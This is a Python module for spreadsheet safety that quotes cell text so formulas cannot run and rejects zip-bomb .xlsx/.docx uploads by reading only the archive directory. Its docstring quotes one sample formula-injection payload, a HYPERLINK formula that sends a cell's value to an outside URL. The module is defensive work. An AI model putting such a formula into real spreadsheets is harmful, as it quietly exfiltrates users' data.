"""Spreadsheet safety shared by every export and import (no Django models: any app may import it).

Formula injection (CSV/Excel injection, OWASP): a cell whose text starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return may be evaluated by Excel/WPS/LibreOffice — a liaison's progress
report ``=HYPERLINK("http://…?d="&D5,"查看附件")`` would send the office's data away when clicked.
openpyxl itself stores any ``str`` that starts with ``=`` as a formula. So every cell written from
user text goes through `safe_value`: such text gets a leading single quote (OWASP's advice) and
stays a plain string; numbers, dates and booleans written by the code keep their type.

Zip bombs: an .xlsx or .docx is a zip. `check_zip` looks at the central directory (no
decompression) and refuses an archive whose members would inflate beyond the limits, before
openpyxl or python-docx inflate anything.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterable
from dataclasses import dataclass
from typing import IO, Any

# sent with every .xlsx download: a host without /etc/mime.types (a slim image) cannot guess it,
# and FileResponse would then say application/octet-stream
CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def safe_value(value: Any) -> Any:
    """`value` as it may be written into a cell: dangerous text quoted, everything else untouched."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return QUOTE + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_value(v) for v in values]


def unquote(text: str) -> str:
    """The inverse for importers: our own export's quoted text reads back as written."""
    if text.startswith(QUOTE) and text[1:].startswith(FORMULA_PREFIXES):
        return text[1:]
    return text


# --- zip bombs --------------------------------------------------------------------------------


class ZipLimitError(ValueError):
    """The archive is not a readable zip, or would inflate beyond a limit. The message is Chinese."""


@dataclass(frozen=True)
class ZipLimits:
    max_total: int  # sum of uncompressed member sizes, bytes
    max_member: int  # any one member, bytes (word/document.xml, a worksheet)
    max_ratio: int  # uncompressed ÷ compressed of any one member larger than 1 MB
    max_members: int = 10_000


def _mb(n: int) -> str:
    return f"{n / 1024 / 1024:.0f} MB"


def check_zip(data: bytes | IO[bytes], limits: ZipLimits, *, kind: str = "文件") -> None:
    """Refuse an archive that would inflate beyond `limits`, reading only its directory.

    The sizes in the directory are what the writer claims; zipfile checks them while inflating
    (a member that inflates beyond its declared size raises BadZipFile), so a lie cannot get past
    the limits either."""
    fh = io.BytesIO(data) if isinstance(data, bytes | bytearray) else data
    try:
        with zipfile.ZipFile(fh) as zf:
            infos = zf.infolist()
    except (zipfile.BadZipFile, OSError, EOFError, ValueError) as exc:
        raise ZipLimitError(f"{kind}已损坏或不是有效的压缩包格式，无法打开。") from exc
    finally:
        if not isinstance(data, bytes | bytearray):
            fh.seek(0)
    if len(infos) > limits.max_members:
        raise ZipLimitError(f"{kind}包含的部件过多（{len(infos)} 个），疑似恶意文件，已拒绝。")
    total = 0
    for info in infos:
        total += info.file_size
        if info.file_size > limits.max_member:
            raise ZipLimitError(
                f"{kind}中的“{info.filename}”解压后过大（{_mb(info.file_size)}，上限 {_mb(limits.max_member)}），"
                "请拆分后再上传。"
            )
        if info.file_size > 1024 * 1024 and info.file_size > limits.max_ratio * max(info.compress_size, 1):
            raise ZipLimitError(
                f"{kind}的压缩比异常（“{info.filename}”压缩了 {info.file_size // max(info.compress_size, 1)} 倍），"
                "疑似压缩炸弹，已拒绝。"
            )
    if total > limits.max_total:
        raise ZipLimitError(f"{kind}解压后过大（{_mb(total)}，上限 {_mb(limits.max_total)}），请拆分后再上传。")
